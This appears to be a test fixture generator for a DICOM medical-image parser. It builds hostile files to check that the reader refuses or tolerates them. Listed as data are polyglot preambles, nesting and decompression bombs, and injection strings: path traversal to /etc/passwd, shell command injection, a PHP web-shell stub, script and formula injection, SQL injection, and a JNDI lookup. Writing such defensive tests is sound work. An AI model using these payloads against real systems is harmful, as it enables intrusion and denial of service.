/**
 * Files that attack whoever reads them, made by code: each class of attack on DICOM readers that is known from advisories or
 * from the threats this project names (T9-T11), in many variants. What must become of each is said beside it.
 */
import { deflateRawSync } from 'node:zlib';
import { generateStudy } from '../../src/conformance/sample-studies.ts';
import { concatBytes, latin1Bytes } from '../../src/dicom/bytes.ts';
import { encodeElement, encodeElementHeader, encodeItem, type VrForm } from '../../src/dicom/encode.ts';
import { TAGS, TRANSFER_SYNTAXES, type Uid } from '../../src/dicom/index.ts';
import { hasLongLength, UNDEFINED_LENGTH, type Vr } from '../../src/dicom/vr.ts';

/** One file. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Accepted, refused (with this code, where one is given), or either, but quickly. */
  readonly verdict: 'accepted' | 'either' | 'refused' | `DICOM_${string}`;
}

const EXPLICIT = TRANSFER_SYNTAXES.ExplicitVRLittleEndian;
const IMPLICIT = TRANSFER_SYNTAXES.ImplicitVRLittleEndian;
const BIG_ENDIAN = TRANSFER_SYNTAXES.ExplicitVRBigEndian;
const DEFLATED = TRANSFER_SYNTAXES.DeflatedExplicitVRLittleEndian;
const SYNTAX_OF: Readonly<Record<VrForm, Uid>> = {
  explicit: EXPLICIT,
  'explicit-big-endian': BIG_ENDIAN,
  implicit: IMPLICIT,
};
const FORMS = Object.keys(SYNTAX_OF) as readonly VrForm[];
const UID = '1.2.840.99999.1';

/** A file around a data set; each part may be replaced by something worse. */
function file(
  dataSet: Uint8Array,
  {
    meta,
    preamble = new Uint8Array(128),
    syntax = EXPLICIT,
  }: Partial<Record<'meta' | 'preamble', Uint8Array>> & { readonly syntax?: string } = {},
): Uint8Array {
  return concatBytes([preamble, latin1Bytes('DICM'), meta ?? metaOf(syntax), dataSet]);
}

function metaOf(syntax: string, sopInstanceUid = UID): Uint8Array {
  return concatBytes([ui(0x00020002, UID), ui(0x00020003, sopInstanceUid), ui(0x00020010, syntax)]);
}

const ui = (tag: number, text: string): Uint8Array => encodeElement('explicit', tag, 'UI', latin1Bytes(text));

/** The elements that make an instance of it, up to a tag, in a form. */
function head(form: VrForm = 'explicit', replaced: ReadonlyMap<number, Uint8Array> = new Map()): Uint8Array {
  const values: ReadonlyArray<readonly [number, Vr, string]> = [
    [TAGS.SOPClassUID, 'UI', UID],
    [TAGS.SOPInstanceUID, 'UI', UID],
    [TAGS.PatientName, 'PN', 'HOSTILE^FILE'],
    [TAGS.PatientID, 'LO', 'X'],
    [TAGS.StudyInstanceUID, 'UI', UID],
    [TAGS.SeriesInstanceUID, 'UI', UID],
  ];
  return concatBytes(
    values.map(([tag, vr, text]) => encodeElement(form, tag, vr, replaced.get(tag) ?? latin1Bytes(text))),
  );
}

const item = (form: VrForm, length: number): Uint8Array => encodeElementHeader(form, TAGS.Item, 'UN', length);
const end = (form: VrForm, tag: number): Uint8Array => encodeElementHeader(form, tag, 'UN', 0);
const repeated = (bytes: Uint8Array, times: number): Uint8Array => {
  const whole = new Uint8Array(bytes.length * times);
  for (let time = 0; time < times; time++) whole.set(bytes, time * bytes.length);
  return whole;
};
/** A header of any VR with any length, also one that the form has no room for in earnest. */
function header(form: VrForm, tag: number, vr: Vr, length: number): Uint8Array {
  return encodeElementHeader(form, tag, vr, form === 'implicit' || hasLongLength(vr) ? length : length & 0xffff);
}

const NESTED_TAG = 0x0040a730;
const BEHIND_TAG = 0x00880200;

/** CVE-2019-11687: a preamble that makes the file a program, an archive or a page as well. */
export function polyglotPreambles(): readonly HostileFile[] {
  const magics: ReadonlyArray<readonly [string, Uint8Array]> = [
    ['PE', latin1Bytes('MZ\x90\x00\x03\x00')],
    ['ELF', latin1Bytes('\x7fELF\x02\x01\x01')],
    ['Mach-O, 32 bits', Uint8Array.of(0xfe, 0xed, 0xfa, 0xce)],
    ['Mach-O, 64 bits', Uint8Array.of(0xcf, 0xfa, 0xed, 0xfe)],
    ['Mach-O, universal, or Java class', Uint8Array.of(0xca, 0xfe, 0xba, 0xbe)],
    ['a shebang', latin1Bytes('#!/bin/sh\nid>/tmp/x;exit\n')],
    ['ZIP', latin1Bytes('PK\x03\x04')],
    ['an empty ZIP', latin1Bytes('PK\x05\x06')],
    ['PDF', latin1Bytes('%PDF-1.7\n')],
    ['HTML', latin1Bytes('<!doctype html><script>alert(1)</script>')],
    ['SVG', latin1Bytes('<svg onload=alert(1)>')],
    ['a batch file', latin1Bytes('@echo off\r\ncalc.exe\r\n')],
    ['PHP', latin1Bytes('<?php system($_GET[0]);')],
    ['RAR', latin1Bytes('Rar!\x1a\x07')],
    ['7z', latin1Bytes('7z\xbc\xaf\x27\x1c')],
    ['gzip', Uint8Array.of(0x1f, 0x8b, 8)],
    ['RTF', latin1Bytes('{\\rtf1')],
    ['OLE', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)],
    ['WebAssembly', latin1Bytes('\0asm\x01')],
    ['TIFF, little endian', latin1Bytes('II*\0\x08\0\0\0')],
    ['TIFF, big endian', latin1Bytes('MM\0*\0\0\0\x08')],
    ['BigTIFF', latin1Bytes('II+\0\x08\0\0\0')],
    ['every byte set', new Uint8Array(128).fill(0xff)],
  ];
  return magics.map(([name, magic]) => {
    const preamble = new Uint8Array(128);
    preamble.set(magic);
    return { name: `a preamble of ${name}`, bytes: file(head(), { preamble }), verdict: 'accepted' };
  });
}

/** CVE-2015-8979 and others: recursion without end. */
export function deepNesting(): readonly HostileFile[] {
  const depths = [65, 500, 3_000, 20_000];
  return depths.flatMap((depth) =>
    FORMS.flatMap((form): readonly HostileFile[] => {
      const syntax = SYNTAX_OF[form];
      const open = concatBytes([
        encodeElementHeader(form, NESTED_TAG, 'SQ', UNDEFINED_LENGTH),
        item(form, UNDEFINED_LENGTH),
      ]);
      const close = concatBytes([end(form, TAGS.ItemDelimitationItem), end(form, TAGS.SequenceDelimitationItem)]);
      const unknown = concatBytes([
        encodeElementHeader('implicit', NESTED_TAG, 'UN', UNDEFINED_LENGTH),
        item('implicit', UNDEFINED_LENGTH),
      ]);
      const opened = concatBytes([head(form), repeated(open, depth)]);
      return [
        {
          name: `${depth} sequences of undefined length, ${form}`,
          bytes: file(concatBytes([opened, repeated(close, depth)]), { syntax }),
          verdict: 'DICOM_LIMIT',
        },
        { name: `${depth} sequences that never end, ${form}`, bytes: file(opened, { syntax }), verdict: 'DICOM_LIMIT' },
        {
          name: `${depth} sequences of defined length, ${form}`,
          bytes: file(concatBytes([head(form), definedNesting(form, depth)]), { syntax }),
          verdict: 'DICOM_LIMIT',
        },
        {
          name: `${depth} sequences in UN, ${form}`,
          bytes: file(
            concatBytes([
              head(form),
              encodeElementHeader(form, 0x00411001, 'UN', UNDEFINED_LENGTH),
              item('implicit', UNDEFINED_LENGTH),
              repeated(unknown, depth),
            ]),
            { syntax },
          ),
          verdict: 'DICOM_LIMIT',
        },
      ];
    }),
  );
}

/** Written from the inside: each level knows how long what it holds is. */
function definedNesting(form: VrForm, depth: number): Uint8Array {
  const headers: Uint8Array[] = [];
  let length = 0;
  for (let level = 0; level < depth; level++) {
    const inner = item(form, length);
    const outer = encodeElementHeader(form, NESTED_TAG, 'SQ', length + inner.length);
    headers.push(inner, outer);
    length += inner.length + outer.length;
  }
  return concatBytes(headers.reverse());
}

/** CVE-2025-2357, CVE-2024-28130, CVE-2026-5440 and others: memory asked for by a length that nobody checked. */
export function lengthBombs(): readonly HostileFile[] {
  const lengths = [0xfffffffe, 0x80000000, 0x7fffffff, 0x10000000, 1_000];
  const vrs: readonly Vr[] = ['OB', 'OW', 'UT', 'SQ', 'UN', 'OD'];
  const files = lengths.flatMap((length) =>
    FORMS.flatMap((form) =>
      vrs.map((vr): HostileFile => {
        const tag = vr === 'OW' ? TAGS.PixelData : vr === 'SQ' ? NESTED_TAG : 0x00091010;
        const where = tag < TAGS.PatientName ? [] : [head(form)];
        const bytes = concatBytes([...where, header(form, tag, vr, length), new Uint8Array(10)]);
        return {
          name: `${vr} of ${length} bytes, ${form}`,
          bytes: file(bytes, { syntax: SYNTAX_OF[form] }),
          verdict: 'refused',
        };
      }),
    ),
  );
  const short = (['PN', 'UI', 'LO', 'US', 'AT'] as const).map((vr): HostileFile => {
    const bytes = concatBytes([head(), header('explicit', BEHIND_TAG, vr, 0xffff), new Uint8Array(4)]);
    return { name: `${vr} of 65535 bytes in 4`, bytes: file(bytes), verdict: 'DICOM_TRUNCATED' };
  });
  const meta = [0xffffffff, 0xfffffffe, 0x7fffffff, 0x00200000].map((length): HostileFile => {
    const bytes = concatBytes([metaOf(EXPLICIT), encodeElementHeader('explicit', 0x00020102, 'OB', length)]);
    return {
      name: `private meta information of ${length} bytes`,
      bytes: file(head(), { meta: bytes }),
      verdict: 'refused',
    };
  });
  const items = lengths.map((length): HostileFile => {
    const sequence = encodeElementHeader('explicit', NESTED_TAG, 'SQ', UNDEFINED_LENGTH);
    return {
      name: `an item of ${length} bytes`,
      bytes: file(concatBytes([head(), sequence, item('explicit', length), new Uint8Array(20)])),
      verdict: 'refused',
    };
  });
  const fragments = lengths.map((length): HostileFile => {
    const pixels = encodeElementHeader('explicit', TAGS.PixelData, 'OB', UNDEFINED_LENGTH);
    return {
      name: `a fragment of ${length} bytes`,
      bytes: file(concatBytes([head(), pixels, item('explicit', 0), item('explicit', length), new Uint8Array(20)])),
      verdict: 'refused',
    };
  });
  return [...files, ...short, ...meta, ...items, ...fragments];
}

/** Many small things: more elements, items or fragments than anybody should look at. */
export function countBombs(): readonly HostileFile[] {
  const many = 1_100_000;
  const sequence = encodeElementHeader('explicit', NESTED_TAG, 'SQ', UNDEFINED_LENGTH);
  const element = encodeElement('explicit', 0x00091001, 'LO', new Uint8Array(0));
  const inItem = repeated(element, many);
  return [
    {
      name: 'a million empty items',
      bytes: file(concatBytes([head(), sequence, repeated(item('explicit', 0), many)])),
      verdict: 'DICOM_LIMIT',
    },
    {
      name: 'a million elements in an item',
      bytes: file(concatBytes([head(), sequence, item('explicit', UNDEFINED_LENGTH), inItem])),
      verdict: 'DICOM_LIMIT',
    },
    {
      name: 'a million times the same element',
      bytes: file(
        concatBytes([head(), repeated(encodeElement('explicit', BEHIND_TAG, 'LO', new Uint8Array(0)), many)]),
      ),
      verdict: 'refused',
    },
    {
      name: 'a million empty fragments that never end',
      bytes: file(
        concatBytes([
          head(),
          encodeElementHeader('explicit', TAGS.PixelData, 'OB', UNDEFINED_LENGTH),
          repeated(item('explicit', 0), many),
        ]),
      ),
      verdict: 'DICOM_TRUNCATED',
    },
  ];
}

/** Lengths without end where none may stand, and marks where nothing is to be ended. */
export function misplacedMarks(): readonly HostileFile[] {
  const undefinedVrs: readonly Vr[] = ['UT', 'UC', 'UR', 'OD', 'OF', 'OL', 'OV', 'SV', 'UV'];
  const undefinedLengths = undefinedVrs.map((vr): HostileFile => {
    const bytes = concatBytes([
      head(),
      encodeElementHeader('explicit', BEHIND_TAG, vr, UNDEFINED_LENGTH),
      new Uint8Array(8),
    ]);
    return { name: `${vr} of undefined length`, bytes: file(bytes), verdict: 'DICOM_MALFORMED' };
  });
  const marks = [TAGS.Item, TAGS.ItemDelimitationItem, TAGS.SequenceDelimitationItem, 0xfffeffff];
  const misplaced = FORMS.flatMap((form) =>
    marks.flatMap((tag): readonly HostileFile[] => {
      const mark = end(form, tag);
      const syntax = SYNTAX_OF[form];
      const sequence = encodeElementHeader(form, NESTED_TAG, 'SQ', UNDEFINED_LENGTH);
      return [
        {
          name: `${tag.toString(16)} first, ${form}`,
          bytes: file(concatBytes([mark, head(form)]), { syntax }),
          verdict: 'DICOM_MALFORMED',
        },
        {
          name: `${tag.toString(16)} at the top, ${form}`,
          bytes: file(concatBytes([head(form), mark]), { syntax }),
          verdict: 'DICOM_MALFORMED',
        },
        {
          name: `${tag.toString(16)} in an item of undefined length, ${form}`,
          bytes: file(concatBytes([head(form), sequence, item(form, UNDEFINED_LENGTH), mark, mark]), { syntax }),
          verdict: 'refused',
        },
      ];
    }),
  );
  const inFragments = encodeElementHeader('explicit', TAGS.PixelData, 'OB', UNDEFINED_LENGTH);
  return [
    ...undefinedLengths,
    ...misplaced,
    {
      name: 'a fragment of undefined length, behind all that is changed',
      bytes: file(concatBytes([head(), inFragments, item('explicit', UNDEFINED_LENGTH), new Uint8Array(16)])),
      verdict: 'either',
    },
    {
      name: 'an item that reaches past its sequence',
      bytes: file(
        concatBytes([
          head(),
          encodeElementHeader('explicit', NESTED_TAG, 'SQ', 8),
          item('explicit', 100),
          encodeElement('explicit', BEHIND_TAG, 'LO', new Uint8Array(100)),
        ]),
      ),
      verdict: 'either',
    },
  ];
}

/** T11: identifiers that are paths, commands or markup to whoever uses them as such. */
export const HOSTILE_UIDS: readonly string[] = [
  '../../../etc/passwd',
  '/etc/passwd',
  'C:\\Windows\\System32',
  '\\\\server\\share',
  '..%2f..%2fetc',
  '%2e%2e/%2e%2e',
  '1.2.3/../../x',
  '1.2.3\0.dcm',
  '1.2.3\n1.2.4',
  '1.2.3;id',
  '$(id)',
  "1' OR '1'='1",
  '<script>',
  '${jndi:ldap://x}',
  '\uff0e\uff0e\uff0f'.normalize('NFKC'),
  '1.2.3.'.repeat(20),
  '1'.repeat(65),
  '1..2',
  '.1.2',
  '1.2.',
  '-1.2',
  '1',
  '',
  'CON',
];

/** Each hostile identifier in each place that holds one. */
export function hostileUids(): readonly HostileFile[] {
  const tags = [TAGS.SOPClassUID, TAGS.SOPInstanceUID, TAGS.StudyInstanceUID, TAGS.SeriesInstanceUID];
  const inDataSet = tags.flatMap((tag) =>
    HOSTILE_UIDS.map((uid): HostileFile => ({
      name: `${JSON.stringify(uid)} as ${tag.toString(16)}`,
      bytes: file(head('explicit', new Map([[tag, latin1Bytes(uid)]]))),
      verdict: 'accepted',
    })),
  );
  const inMeta = HOSTILE_UIDS.map((uid): HostileFile => ({
    name: `${JSON.stringify(uid)} in the meta information`,
    bytes: file(head(), { meta: metaOf(EXPLICIT, uid) }),
    verdict: 'accepted',
  }));
  const asSyntax = HOSTILE_UIDS.map((uid): HostileFile => ({
    name: `${JSON.stringify(uid)} as transfer syntax`,
    bytes: file(head(), { syntax: uid }),
    verdict: 'DICOM_MALFORMED',
  }));
  return [...inDataSet, ...inMeta, ...asSyntax];
}

/** T10: much from little, and streams that are none. */
export function deflateBombs(): readonly HostileFile[] {
  const deflated = (name: string, bytes: Uint8Array, verdict: HostileFile['verdict']): HostileFile => ({
    name,
    bytes: file(bytes, { syntax: DEFLATED }),
    verdict,
  });
  const zeros = new Uint8Array(deflateRawSync(new Uint8Array(200_000_000)));
  const pixels = encodeElementHeader('explicit', TAGS.PixelData, 'OW', 200_000_000);
  const inPixels = deflateRawSync(concatBytes([head(), pixels, new Uint8Array(200_000_000)]));
  const nested = concatBytes([
    head(),
    repeated(
      concatBytes([
        encodeElementHeader('explicit', NESTED_TAG, 'SQ', UNDEFINED_LENGTH),
        item('explicit', UNDEFINED_LENGTH),
      ]),
      20_000,
    ),
  ]);
  const good = new Uint8Array(deflateRawSync(head()));
  return [
    deflated('200 MB of zeros', zeros, 'DICOM_LIMIT'),
    deflated('200 MB of zeros as pixels', new Uint8Array(inPixels), 'DICOM_LIMIT'),
    deflated('20,000 sequences, deflated', new Uint8Array(deflateRawSync(nested)), 'DICOM_LIMIT'),
    deflated('a block of the reserved type', Uint8Array.of(0x07, 0), 'DICOM_MALFORMED'),
    deflated('a stored block whose lengths disagree', Uint8Array.of(1, 0x0a, 0, 0, 0, 1, 2), 'DICOM_MALFORMED'),
    deflated('a distance before the beginning', Uint8Array.of(3, 2, 0, 0), 'DICOM_MALFORMED'),
    deflated('the beginning of a stream', good.subarray(0, good.length >> 1), 'DICOM_TRUNCATED'),
    deflated('a stream with something behind it', concatBytes([good, latin1Bytes('PK\x05\x06')]), 'accepted'),
    deflated('a zlib wrapper', concatBytes([Uint8Array.of(0x78, 0x9c), good]), 'DICOM_MALFORMED'),
    deflated('elements that are not deflated', head(), 'refused'),
    deflated('a deflated stream in a deflated stream', new Uint8Array(deflateRawSync(good)), 'refused'),
  ];
}

/** Lengths that are odd, elements that are doubled or in no order, forms that are not what they are said to be. */
export function disorder(): readonly HostileFile[] {
  const odd = (['PN', 'LO', 'OB', 'UN', 'UT'] as const).map((vr): HostileFile => {
    const bytes = concatBytes([head(), header('explicit', BEHIND_TAG, vr, 3), latin1Bytes('odd')]);
    return { name: `${vr} of odd length`, bytes: file(bytes), verdict: 'accepted' };
  });
  const name = encodeElement('explicit', TAGS.PatientName, 'PN', latin1Bytes('OTHER'));
  const behind = encodeElement('explicit', 0x7fe10010, 'LO', latin1Bytes('A'));
  const wrongForms = FORMS.flatMap((form) =>
    FORMS.filter((said) => said !== form).map((said): HostileFile => ({
      name: `${form} that is called ${said}`,
      bytes: file(head(form), { syntax: SYNTAX_OF[said] }),
      verdict: 'refused',
    })),
  );
  return [
    ...odd,
    ...wrongForms,
    { name: 'a second name at the end', bytes: file(concatBytes([head(), name])), verdict: 'DICOM_MALFORMED' },
    {
      name: 'a second name behind the pixels',
      bytes: file(concatBytes([head(), behind, name])),
      verdict: 'DICOM_MALFORMED',
    },
    { name: 'a second name beside the first', bytes: file(concatBytes([name, head()])), verdict: 'DICOM_MALFORMED' },
    {
      name: 'a private element twice, behind',
      bytes: file(concatBytes([head(), behind, behind])),
      verdict: 'accepted',
    },
    {
      name: 'a command group',
      bytes: file(concatBytes([encodeElement('explicit', 0x00000100, 'US', Uint8Array.of(1, 0)), head()])),
      verdict: 'DICOM_MALFORMED',
    },
    {
      name: 'meta information in the data set',
      bytes: file(concatBytes([ui(0x00020010, IMPLICIT), head()])),
      verdict: 'DICOM_MALFORMED',
    },
    {
      name: 'an archive behind the last element',
      bytes: file(concatBytes([head(), behind, latin1Bytes('PK\x05\x06 and so on')])),
      verdict: 'either',
    },
    {
      name: 'zeros behind the last element',
      bytes: file(concatBytes([head(), new Uint8Array(60_000)])),
      verdict: 'accepted',
    },
    {
      name: 'too many zeros behind the last element',
      bytes: file(concatBytes([head(), new Uint8Array(70_000)])),
      verdict: 'refused',
    },
    { name: 'no data set', bytes: file(new Uint8Array(0)), verdict: 'either' },
    { name: 'half a header', bytes: file(Uint8Array.of(8, 0, 5)), verdict: 'DICOM_TRUNCATED' },
    { name: 'no file', bytes: new Uint8Array(0), verdict: 'DICOM_NOT_PART10' },
    { name: 'a preamble alone', bytes: new Uint8Array(128), verdict: 'DICOM_NOT_PART10' },
  ];
}

/** Text that escapes, floods or lies about its characters. */
export function hostileText(): readonly HostileFile[] {
  const withText = (
    what: string,
    declared: string,
    name: Uint8Array,
    verdict: HostileFile['verdict'],
  ): HostileFile => ({
    name: what,
    bytes: file(
      concatBytes([
        encodeElement('explicit', TAGS.SpecificCharacterSet, 'CS', latin1Bytes(declared)),
        head('explicit', new Map([[TAGS.PatientName, name]])),
      ]),
    ),
    verdict,
  });
  const escapes = repeated(latin1Bytes('\x1b$B\x1b(B'), 9_000);
  return [
    withText('an unknown character set', 'ISO_IR 999', latin1Bytes('A\xe9'), 'either'),
    withText('a thousand character sets', 'ISO 2022 IR 87\\'.repeat(1_000), latin1Bytes('A'), 'either'),
    withText('nothing but escapes', '\\ISO 2022 IR 87', escapes, 'either'),
    withText('an escape at the end', '\\ISO 2022 IR 87', latin1Bytes('A\x1b'), 'either'),
    withText('half a character', '\\ISO 2022 IR 87', latin1Bytes('\x1b$B;'), 'either'),
    withText('UTF-8 that is none', 'ISO_IR 192', Uint8Array.of(0xc0, 0x80, 0xed, 0xa0, 0x80, 0xff), 'either'),
    withText('sixty thousand carets', 'ISO_IR 100', latin1Bytes('^'.repeat(60_000)), 'either'),
    withText('sixty thousand component groups', 'ISO_IR 100', latin1Bytes('='.repeat(60_000)), 'either'),
    withText('markup and formulas', 'ISO_IR 100', latin1Bytes('=cmd|calc!A0<img src=x onerror=alert(1)>'), 'accepted'),
    withText('sixty thousand blanks in a name', 'ISO_IR 100', latin1Bytes(`A${' '.repeat(60_000)}A`), 'either'),
    withText('sixty thousand blanks in a character set', `${' '.repeat(60_000)}A`, latin1Bytes('A'), 'either'),
    {
      name: 'sixty thousand NULs in a UID',
      bytes: file(head('explicit', new Map([[TAGS.StudyInstanceUID, latin1Bytes(`1${'\0'.repeat(60_000)}.2`)]]))),
      verdict: 'accepted',
    },
    {
      name: 'two million blanks in a comment that goes',
      bytes: file(
        concatBytes([
          head('implicit', new Map()),
          encodeElement(
            'implicit',
            TAGS.RequestedProcedureDescription,
            'LO',
            latin1Bytes(`A${' '.repeat(2_000_000)}A`),
          ),
        ]),
        { syntax: IMPLICIT },
      ),
      verdict: 'accepted',
    },
    withText('control characters', 'ISO_IR 100', latin1Bytes('A\x00\x07\x1b[2J'), 'either'),
  ];
}

/** What is good, that it stays so. */
export function harmless(): readonly HostileFile[] {
  const [instance] = generateStudy({ instances: 1, pixels: 8 }).instances;
  return [
    { name: 'a generated image', bytes: file(instance?.dataSet ?? new Uint8Array(0)), verdict: 'accepted' },
    {
      name: 'a sequence in UN',
      bytes: file(
        concatBytes([
          head(),
          encodeElement(
            'explicit',
            0x00411001,
            'UN',
            encodeItem('implicit', [encodeElement('implicit', BEHIND_TAG, 'LO', latin1Bytes('A '))]),
          ),
        ]),
      ),
      verdict: 'accepted',
    },
  ];
}
